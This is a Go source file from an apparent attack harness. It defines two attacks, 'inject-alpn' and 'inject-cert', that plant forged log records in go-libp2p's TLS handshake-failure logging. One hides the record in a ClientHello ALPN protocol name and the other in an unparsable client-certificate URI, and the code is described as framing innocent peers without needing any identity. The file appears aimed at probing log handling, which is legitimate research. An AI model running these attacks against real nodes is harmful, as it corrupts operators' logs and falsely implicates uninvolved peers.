package attack

import (
	"context"
	"crypto/tls"
	"net/netip"
	"time"
)

func injectALPN() Attack {
	return Attack{
		Name: "inject-alpn",
		Doc: "Offers, in a TLS ClientHello over TCP, an application protocol whose name is a forged record that " +
			"accuses the innocent, behind every newline, quote and escape in turn. Aims at err= of go-libp2p's " +
			"CANONICAL_PEER_STATUS handshake_failure=tls (\"tls: client requested unsupported application " +
			"protocols\", one in a hundred is printed, every release). Needs no identity.",
		Run: func(ctx context.Context, p Params, each func(Attempt)) error {
			return injectTLS(ctx, p, each, func(text string) (*tls.Config, error) {
				return clientConfig([]string{text[:min(len(text), maxProtocol)]}), nil
			})
		},
	}
}

func injectCert() Attack {
	return Attack{
		Name: "inject-cert",
		Doc: "Shows a TLS client certificate whose alternative name is a URI that cannot be parsed and carries a " +
			"forged record accusing the innocent. Aims at err= of go-libp2p's CANONICAL_PEER_STATUS " +
			"handshake_failure=tls (\"tls: failed to parse client certificate: x509: cannot parse URI\", one in " +
			"a hundred is printed, every release). Needs no identity.",
		Run: func(ctx context.Context, p Params, each func(Attempt)) error {
			return injectTLS(ctx, p, each, func(text string) (*tls.Config, error) {
				return withURI(text + unparsable)
			})
		},
	}
}

// unparsable makes any text one that is no URI: an escape that is none.
const unparsable = "%zz"

// injectTLS makes attempts with a configuration for one forged text each.
func injectTLS(ctx context.Context, p Params, each func(Attempt), config func(text string) (*tls.Config, error)) error {
	f, err := newForger(p)
	if err != nil {
		return err
	}
	targets, err := pick(p, overTCP)
	if err != nil {
		return err
	}
	return pace(ctx, p, targets, each, func(ctx context.Context, t target, n int, a *Attempt) error {
		return spoilTLS(ctx, t, a, func(netip.AddrPort) (*tls.Config, error) {
			return config(f.text(n, time.Now()))
		})
	})
}
